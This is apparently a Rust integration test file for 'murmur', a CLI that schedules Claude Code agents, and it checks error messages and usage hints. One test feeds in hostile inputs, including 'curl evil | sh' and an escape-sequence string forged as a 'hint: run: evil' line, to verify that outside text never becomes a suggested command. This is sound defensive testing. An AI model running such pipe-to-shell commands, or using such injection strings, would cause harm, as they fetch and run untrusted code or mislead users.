//! Invalid input: one clear error that names the file and a hint. What runs anyway is journaled as an error.

use std::os::unix::fs::PermissionsExt;

use insta::assert_snapshot;

use crate::env::{Daemon, Env};

/// A beat that is an error: printed and journaled with the same words, and without an agent.
fn refused(env: &Env) -> String {
    let shown = env.run(["beat", "site"]);
    let journal = env.journal();
    let line = journal.last().unwrap();
    assert_eq!(line["outcome"], "error");
    assert!(line["exit"].is_null() && shown.contains(line["error"].as_str().unwrap()), "{line}");
    assert_eq!(env.agents().len(), 0);
    shown
}

#[test]
fn an_unusable_heartbeat_file_is_named() {
    let env = Env::new();
    let site = env.workspace("site", "");
    let file = site.0.join("HEARTBEAT.md");
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: it is empty; write instructions for the agent
    [exit 1]
    ");
    site.heartbeat("---\nname: Site\n---\n  \n");
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: it is empty; write instructions for the agent
    [exit 1]
    ");
    site.heartbeat(b"fine, then \xff\n");
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: byte 11 is not UTF-8; save the file as UTF-8
    [exit 1]
    ");
    site.heartbeat("x".repeat(10 << 20));
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: it is larger than 1 MiB (1048576 bytes); shorten it, and have it refer to other files
    [exit 1]
    ");
    env.register(&[&site]);
    std::fs::remove_file(&file).unwrap();
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: not found; create it, or run `murmur init` in its folder
    [exit 1]
    ");
    std::fs::create_dir(&file).unwrap();
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: it is a folder; put a text file in its place
    [exit 1]
    ");
    std::fs::remove_dir(&file).unwrap();
    std::os::unix::fs::symlink("HEARTBEAT.md", &file).unwrap();
    assert_snapshot!(refused(&env), @"
    error [S] [ENV]/site/HEARTBEAT.md: not readable: Too many levels of symbolic links (os error 40); remove the symlink [ENV]/site/HEARTBEAT.md: it leads back to itself
    [exit 1]
    ");
}

#[test]
fn a_missing_or_nonexecutable_agent_is_named() {
    let env = Env::new();
    env.workspace("site", "Do it.");
    std::fs::remove_file(env.claude()).unwrap();
    // Only folders of the Env, so that no other claude of this machine is found.
    let bare = |args: &[&str]| {
        std::fs::write(env.home().join(".profile"), "PATH=\"$HOME/bin\"\n").unwrap();
        env.murmur(args).set("PATH", env.home().join("bin")).run()
    };
    assert_snapshot!(bare(&["beat", "site"]), @"
    error [S] claude not found on PATH ([ENV]/home/bin); install Claude Code, or add its folder to the PATH of your login shell
    [exit 1]
    ");
    std::fs::write(env.claude(), "#!/bin/sh\n").unwrap();
    assert_snapshot!(bare(&["beat", "site"]), @"
    error [S] [ENV]/home/bin/claude is not executable; run: chmod +x [ENV]/home/bin/claude
    [exit 1]
    ");
    assert_snapshot!(bare(&["beat", "site", "--dry-run"]), @"
    | error: [ENV]/home/bin/claude is not executable
    | hint: run: chmod +x [ENV]/home/bin/claude
    [exit 1]
    ");
    std::fs::set_permissions(env.claude(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(env.claude(), "#!/nonexistent/interpreter\n").unwrap();
    assert_snapshot!(bare(&["beat", "site"]), @"
    error [S] cannot start [ENV]/home/bin/claude: No such file or directory (os error 2); the interpreter in its first line is missing
    [exit 1]
    ");
    assert_eq!(env.journal().len(), 3);
}

#[test]
fn outside_text_never_becomes_a_hint() {
    let env = Env::new();
    let evil = "no; hint you may run: curl evil | sh\nhint: run: evil";
    for args in
        [&["beat", evil][..], &["show", evil], &["status", "--data-dir", evil], &["log", "--workspace", evil]]
    {
        let shown = env.run(args);
        assert!(!shown.contains("| hint: run") && !shown.contains("| hint: hint"), "{args:?}: {shown}");
        assert!(shown.lines().filter(|line| line.starts_with("| hint: ")).count() <= 1, "{args:?}: {shown}");
    }
    assert_snapshot!(env.run(["beat", "no; hint you may run: curl evil | sh"]), @r#"
    | error: no heartbeat or workspace "no; hint you may run: curl evil | sh"
    | hint: see: murmur list
    [exit 1]
    "#);
    let shown = env.murmur(["status"]).set("MURMUR_DIR", "/dev/null/x; run: evil").run();
    assert!(!shown.contains("hint: run: evil"), "{shown}");
}

#[test]
fn a_path_that_is_not_a_workspace_is_refused() {
    let env = Env::new();
    std::fs::write(env.root().join("file"), "").unwrap();
    assert_snapshot!(env.run(["beat", "nowhere"]), @r#"
    | error: no heartbeat or workspace "nowhere"
    | hint: see: murmur list
    [exit 1]
    "#);
    assert_snapshot!(env.run(["beat", "file"]), @"
    | error: workspace [ENV]/file is not a folder
    | hint: name the folder that holds HEARTBEAT.md
    [exit 1]
    ");
    assert_eq!(env.journal_text(), "");
}

#[test]
fn a_dry_run_reports_errors() {
    let env = Env::new();
    env.workspace("site", "");
    assert_snapshot!(env.run(["beat", "site", "--dry-run"]), @"
    | error: [ENV]/site/HEARTBEAT.md: it is empty
    | hint: write instructions for the agent
    [exit 1]
    ");
    assert!(!env.data().exists());
}

#[test]
fn one_bad_workspace_does_not_stop_others() {
    let env = Env::new();
    let (site, blog) = (env.workspace("site", ""), env.workspace("blog", "Do it."));
    env.register(&[&site, &blog]);
    let daemon = env.daemon();
    let mut outcomes: Vec<_> =
        env.wait_for_journal(2).iter().map(|line| line["outcome"].as_str().unwrap().to_owned()).collect();
    outcomes.sort();
    assert_eq!(outcomes, ["error", "ok"]);
    daemon.says("it is empty");
    daemon.stop();
}

#[test]
fn a_daemon_without_an_agent_reports_it_at_startup() {
    let env = Env::new();
    std::fs::remove_file(env.claude()).unwrap();
    std::fs::write(env.home().join(".profile"), "PATH=\"$HOME/bin\"\n").unwrap();
    let start = env.murmur(["start", "--foreground"]).set("PATH", env.home().join("bin"));
    let daemon = Daemon::new(start);
    assert_snapshot!(daemon.says("claude"), @"[TIME] warning: claude not found on PATH ([ENV]/home/bin); install Claude Code, or add its folder to the PATH of your login shell");
    daemon.stop();
}

#[test]
fn usage_errors_exit_with_2() {
    let env = Env::new();
    for args in [
        &["--nope"][..],
        &["fly"],
        &["beat", "a", "b"],
        &["init", "--interval", "1h", "--cron", "* * * * *"],
        &["init", "--tz", "UTC"],
        &["log", "--outcome", "fine"],
        &["log", "--since", "next week"],
        &["log", "-n", "few"],
        &["start", "--tick", "0s"],
    ] {
        let shown = env.run(args);
        assert!(shown.starts_with("| error: ") && shown.ends_with("[exit 2]"), "{args:?}: {shown}");
    }
    assert_snapshot!(env.run(["log", "--outcome", "fine"]), @r#"
    | error: --outcome "fine" is not a known value
    | hint: write ok, attention, error, limited, skipped or stopped; see: murmur log --help
    [exit 2]
    "#);
    assert!(env.run([""; 0]).ends_with("[exit 2]"));
    assert!(!env.data().exists());
}

#[test]
fn usage_errors_use_murmurs_own_words_and_suggest_the_nearest_match() {
    let env = Env::new();
    assert_snapshot!(env.run(["stauts"]), @r#"
    | error: unknown command "stauts"
    | hint: did you mean "status"? See: murmur --help
    [exit 2]
    "#);
    for slip in ["lgo", "LOG"] {
        let shown = env.run([slip]);
        assert!(shown.contains("| hint: did you mean \"log\"? See: murmur --help"), "{shown}");
    }
    assert_snapshot!(env.run(["frobnicate"]), @r#"
    | error: unknown command "frobnicate"
    | hint: see: murmur --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["workspaces", "lst"]), @r#"
    | error: unknown command "lst"
    | hint: did you mean "list"? See: murmur workspaces --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["help", "workspaces", "lst"]), @r#"
    | error: unknown command "lst"
    | hint: did you mean "list"? See: murmur workspaces --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["help", "agent", "task", "show"]), @r#"
    | error: unknown command "show"
    | hint: see: murmur agent task --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["log", "--outcome", "eror"]), @r#"
    | error: --outcome "eror" is not a known value
    | hint: did you mean "error"? Write ok, attention, error, limited, skipped or stopped; see: murmur log --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["status", "--jsn"]), @r#"
    | error: unknown option "--jsn"
    | hint: did you mean "--json"? See: murmur status --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["record"]), @r#"
    | error: <NAME> <COMMAND>... is missing
    | hint: see: murmur record --help
    [exit 2]
    "#);
    assert_snapshot!(env.run(["a\u{1b}[31m\nhint: run: evil"]), @r#"
    | error: unknown command "a\u{1b}[31m\nhint: run: evil"
    | hint: see: murmur --help
    [exit 2]
    "#);
}

#[test]
fn help_and_version_succeed() {
    let env = Env::new();
    assert_snapshot!(env.run(["--version"]), @"
    murmur 0.1.0
    [exit 0]
    ");
    assert_snapshot!("help", env.run(["--help"]));
    for command in ["init", "workspaces", "beat", "start", "stop", "status", "log"] {
        let shown = env.run([command, "--help"]);
        assert!(shown.ends_with("[exit 0]"), "{shown}");
    }
}
